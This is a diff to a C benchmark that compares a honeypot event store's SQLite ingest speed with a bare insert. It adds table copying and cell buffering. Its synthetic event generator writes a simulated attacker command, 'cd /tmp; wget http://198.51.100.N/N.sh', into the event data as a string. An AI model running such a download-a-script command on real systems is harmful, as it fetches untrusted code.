@@ -3,15 +3,15 @@
  *   store_bench [EVENTS [DAYS [SOURCES]]]     default 1000000 90 100000
  *
  * Ours is timed from the JSON line on: reading it, looking everything up, rows, sums, commits, and
- * putting days together. Bare is an insert of the finished event rows into the same table with the
- * same indexes, pragmas and batch size, in the same run, chunk by chunk in turn, so that both meet
- * the same machine. Bare writes no sessions, sources or credentials.
+ * putting days together. Bare inserts the finished rows into the same tables with the same indexes,
+ * pragmas and batch size, in the same run: events chunk by chunk in turn with ours, so that both meet
+ * the same machine, then those of the other tables (words, sessions, sources, credentials), each once
+ * and final. The ratio without those is printed too.
  */
 #include <fcntl.h>
 #include <math.h>
 #include <stdio.h>
 #include <stdlib.h>
-#include <sys/resource.h>
 #include <sys/stat.h>
 #include <unistd.h>
 
@@ -24,8 +24,8 @@
 #include "store/sqlite_folder.h"
 #include "store/store.h"
 
-#define CHUNK      (4 * STORE_BATCH_MAX)
-#define COLUMNS    20
+#define CHUNK      STORE_BATCH_MAX
+#define COLUMNS    24 /* at most, of any table */
 #define START      (INT64_C(1767225600) * SECOND) /* 2026-01-01 */
 #define USERS      5000
 #define PASSWORDS  50000
@@ -38,7 +38,7 @@ struct generator {
 	int64_t events, days, sources;
 	int64_t made;
 	char session[ULID_LENGTH + 1];
-	int step, steps, user, password, sensor, protocol;
+	int step, steps, sensor, protocol;
 	int64_t source;
 };
 
@@ -76,6 +76,8 @@ static void start_session(struct generator *g, int64_t time)
 
 static void describe(struct generator *g, struct event *event, char words[][64])
 {
+	int user, password, payload;
+
 	event_set_words(event, FIELD_SESSION_ID, g->session);
 	event_set_words(event, FIELD_NETWORK_PROTOCOL, protocols[g->protocol].name);
 	event_set_words(event, FIELD_NETWORK_TRANSPORT, "tcp");
@@ -93,15 +95,20 @@ static void describe(struct generator *g, struct event *event, char words[][64])
 		event_set_words(event, FIELD_EVENT_REASON, "client closed");
 	} else if (g->step < 5) {
 		event_set_words(event, FIELD_EVENT_ACTION, "auth.attempt");
-		snprintf(words[1], sizeof(words[1]), "user%d", (int)zipf(g, USERS));
-		snprintf(words[2], sizeof(words[2]), "Passw0rd%d", (int)zipf(g, PASSWORDS));
+		/* Attackers work through lists of pairs: mostly the password says the user. */
+		password = (int)zipf(g, PASSWORDS);
+		user = draw(g) % 10 ? password * 7919 % USERS / (1 + password % 97)
+				    : (int)zipf(g, USERS);
+		snprintf(words[1], sizeof(words[1]), "user%d", user);
+		snprintf(words[2], sizeof(words[2]), "Passw0rd%d", password);
 		event_set_words(event, FIELD_USER_NAME, words[1]);
 		event_set_words(event, FIELD_AUTH_PASSWORD, words[2]);
 		event_set_words(event, FIELD_EVENT_OUTCOME, draw(g) % 50 ? "failure" : "success");
 	} else {
 		event_set_words(event, FIELD_EVENT_ACTION, "command.input");
+		payload = (int)zipf(g, 20000);
 		snprintf(words[1], sizeof(words[1]), "cd /tmp; wget http://198.51.100.%d/%d.sh",
-			 (int)zipf(g, 255), (int)zipf(g, 20000));
+			 payload % 255, payload);
 		event_set_words(event, FIELD_COMMAND, words[1]);
 	}
 }
@@ -164,16 +171,64 @@ static double ingest(struct store *store, const struct writer *lines, size_t cou
 
 /* --- bare --- */
 
+/* A value kept outside of SQLite, so that our side does not pay for its allocations. */
+struct cell {
+	int type, length;
+	int64_t number;
+	double real;
+	size_t at; /* of text and blobs, in bytes */
+};
+
 struct bare {
 	sqlite3 *from, *to;
 	sqlite3_stmt *select, *insert;
-	sqlite3_value *(*rows)[COLUMNS];
+	struct cell *cells; /* CHUNK rows of COLUMNS */
+	struct writer bytes;
 };
 
 static void must(int answer, sqlite3 *database)
 {
 	if (answer != SQLITE_OK && answer != SQLITE_DONE && answer != SQLITE_ROW)
 		fatal("bare: %s", sqlite3_errmsg(database));
+}
+
+static void keep_row(struct bare *bare, sqlite3_stmt *select, struct cell *row)
+{
+	for (int c = 0; c < sqlite3_column_count(select); c++) {
+		struct cell *cell = &row[c];
+
+		cell->type = sqlite3_column_type(select, c);
+		cell->number = sqlite3_column_int64(select, c);
+		cell->real = sqlite3_column_double(select, c);
+		cell->at = bare->bytes.length;
+		cell->length = 0;
+		if (cell->type != SQLITE_TEXT && cell->type != SQLITE_BLOB)
+			continue;
+		cell->length = sqlite3_column_bytes(select, c);
+		writer_bytes(&bare->bytes, slice_of(sqlite3_column_blob(select, c),
+						    (size_t)cell->length));
+	}
+}
+
+static void insert_row(struct bare *bare, sqlite3_stmt *insert, const struct cell *row)
+{
+	for (int c = 0; c < sqlite3_bind_parameter_count(insert); c++) {
+		const struct cell *cell = &row[c];
+		const char *at = (const char *)bare->bytes.at + cell->at;
+
+		if (cell->type == SQLITE_INTEGER)
+			sqlite3_bind_int64(insert, c + 1, cell->number);
+		else if (cell->type == SQLITE_FLOAT)
+			sqlite3_bind_double(insert, c + 1, cell->real);
+		else if (cell->type == SQLITE_TEXT)
+			sqlite3_bind_text(insert, c + 1, at, cell->length, SQLITE_STATIC);
+		else if (cell->type == SQLITE_BLOB)
+			sqlite3_bind_blob(insert, c + 1, at, cell->length, SQLITE_STATIC);
+		else
+			sqlite3_bind_null(insert, c + 1);
+	}
+	must(sqlite3_step(insert), bare->to);
+	sqlite3_reset(insert);
 }
 
 static void bare_open(struct bare *bare, int ours_fd, int bare_fd)
@@ -189,8 +244,8 @@ static void bare_open(struct bare *bare, int ours_fd, int bare_fd)
 	     bare->to);
 	must(sqlite3_exec(bare->to,
 			  "PRAGMA auto_vacuum=INCREMENTAL; PRAGMA journal_mode=WAL;"
-			  "PRAGMA synchronous=NORMAL; PRAGMA cache_size=-6144;"
-			  "PRAGMA wal_autocheckpoint=2000",
+			  "PRAGMA synchronous=NORMAL; PRAGMA cache_size=-16384;"
+			  "PRAGMA wal_autocheckpoint=4000",
 			  NULL, NULL, NULL),
 	     bare->to);
 	if (schema_prepare(bare->to, why, sizeof(why)) < 0)
@@ -202,8 +257,9 @@ static void bare_open(struct bare *bare, int ours_fd, int bare_fd)
 				"INSERT INTO event VALUES(?,?,?,?,?,?,?,?,?,?,?,?,?,?,?,?,?,?,?,?)",
 				-1, &bare->insert, NULL),
 	     bare->to);
-	bare->rows = calloc(CHUNK, sizeof(*bare->rows));
-	if (!bare->rows)
+	bare->bytes = writer_growing(1u << 30);
+	bare->cells = calloc((size_t)CHUNK * COLUMNS, sizeof(*bare->cells));
+	if (!bare->cells)
 		fatal("no memory");
 }
 
@@ -212,31 +268,57 @@ static double bare_insert(struct bare *bare, int64_t after, size_t count)
 	int64_t start;
 	double seconds;
 
+	writer_clear(&bare->bytes);
 	sqlite3_bind_int64(bare->select, 1, after);
 	sqlite3_bind_int64(bare->select, 2, (int64_t)count);
 	for (size_t i = 0; i < count; i++) {
 		if (sqlite3_step(bare->select) != SQLITE_ROW)
 			fatal("rows are missing");
-		for (int c = 0; c < COLUMNS; c++)
-			bare->rows[i][c] =
-				sqlite3_value_dup(sqlite3_column_value(bare->select, c));
+		keep_row(bare, bare->select, &bare->cells[i * COLUMNS]);
 	}
 	sqlite3_reset(bare->select);
 	start = clock_monotonic();
 	for (size_t i = 0; i < count; i++) {
 		if (i % STORE_BATCH_MAX == 0)
 			must(sqlite3_exec(bare->to, "BEGIN", NULL, NULL, NULL), bare->to);
-		for (int c = 0; c < COLUMNS; c++)
-			sqlite3_bind_value(bare->insert, c + 1, bare->rows[i][c]);
-		must(sqlite3_step(bare->insert), bare->to);
-		sqlite3_reset(bare->insert);
+		insert_row(bare, bare->insert, &bare->cells[i * COLUMNS]);
 		if ((i + 1) % STORE_BATCH_MAX == 0 || i + 1 == count)
 			must(sqlite3_exec(bare->to, "COMMIT", NULL, NULL, NULL), bare->to);
 	}
 	seconds = seconds_since(start);
-	for (size_t i = 0; i < count; i++)
-		for (int c = 0; c < COLUMNS; c++)
-			sqlite3_value_free(bare->rows[i][c]);
+	return seconds;
+}
+
+/* All rows of a table that is no event; returns seconds spent inserting. */
+static double bare_copy(struct bare *bare, const char *table)
+{
+	char sql[256];
+	sqlite3_stmt *select, *insert;
+	int columns, answer;
+	double seconds = 0;
+
+	snprintf(sql, sizeof(sql), "SELECT * FROM %s", table);
+	must(sqlite3_prepare_v2(bare->from, sql, -1, &select, NULL), bare->from);
+	columns = sqlite3_column_count(select);
+	snprintf(sql, sizeof(sql), "INSERT INTO %s VALUES(%.*s)", table, 2 * columns - 1,
+		 "?,?,?,?,?,?,?,?,?,?,?,?,?,?,?,?,?,?,?,?,?,?,?,?");
+	must(sqlite3_prepare_v2(bare->to, sql, -1, &insert, NULL), bare->to);
+	do {
+		size_t count = 0;
+		int64_t start;
+
+		writer_clear(&bare->bytes);
+		while (count < CHUNK && (answer = sqlite3_step(select)) == SQLITE_ROW)
+			keep_row(bare, select, &bare->cells[count++ * COLUMNS]);
+		start = clock_monotonic();
+		must(sqlite3_exec(bare->to, "BEGIN", NULL, NULL, NULL), bare->to);
+		for (size_t i = 0; i < count; i++)
+			insert_row(bare, insert, &bare->cells[i * COLUMNS]);
+		must(sqlite3_exec(bare->to, "COMMIT", NULL, NULL, NULL), bare->to);
+		seconds += seconds_since(start);
+	} while (answer == SQLITE_ROW);
+	sqlite3_finalize(select);
+	sqlite3_finalize(insert);
 	return seconds;
 }
 
@@ -246,7 +328,8 @@ static void bare_close(struct bare *bare)
 	sqlite3_finalize(bare->insert);
 	sqlite3_close(bare->from);
 	sqlite3_close(bare->to);
-	free(bare->rows);
+	free(bare->cells);
+	writer_free(&bare->bytes);
 }
 
 /* --- questions --- */
@@ -356,9 +439,8 @@ int main(int argc, char **argv)
 	struct writer *lines = calloc(CHUNK, sizeof(*lines));
 	struct bare bare = {0};
 	struct store_status status;
-	struct rusage usage;
 	struct store *store;
-	double ours = 0, theirs = 0;
+	double ours = 0, events_only = 0, theirs;
 	int ours_fd, bare_fd;
 
 	if (argc > 1)
@@ -384,16 +466,18 @@ int main(int argc, char **argv)
 		for (; count < CHUNK && g.made < g.events; count++)
 			generate(&g, &lines[count]);
 		ours += ingest(store, lines, count);
-		theirs += bare_insert(&bare, before, count);
+		events_only += bare_insert(&bare, before, count);
 	}
+	theirs = events_only + bare_copy(&bare, "word") + bare_copy(&bare, "source") +
+		 bare_copy(&bare, "session") + bare_copy(&bare, "credential");
 	if (store_status(store, &status) < 0)
 		fatal("%s", store_problem(store));
-	getrusage(RUSAGE_SELF, &usage);
-	printf("%lld events, %lld days: ours %.0f/s, bare %.0f/s, ratio %.2f; %.0f bytes an event; "
-	       "a line has %zu\n",
+	printf("%lld events, %lld days: ours %.0f/s, bare %.0f/s, ratio %.2f (event rows only: %.0f/s, "
+	       "%.2f); %.0f bytes an event, lines of %zu\n",
 	       (long long)g.events, (long long)g.days, (double)g.events / ours,
-	       (double)g.events / theirs, theirs / ours,
-	       (double)status.bytes / (double)g.events, lines[0].length);
+	       (double)g.events / theirs, theirs / ours, (double)g.events / events_only,
+	       events_only / ours, (double)status.bytes / (double)g.events, lines[0].length);
+	fflush(stdout);
 	store_close(store);
 	time_questions(ours_fd, START + g.days * DAY);
 	bare_close(&bare);
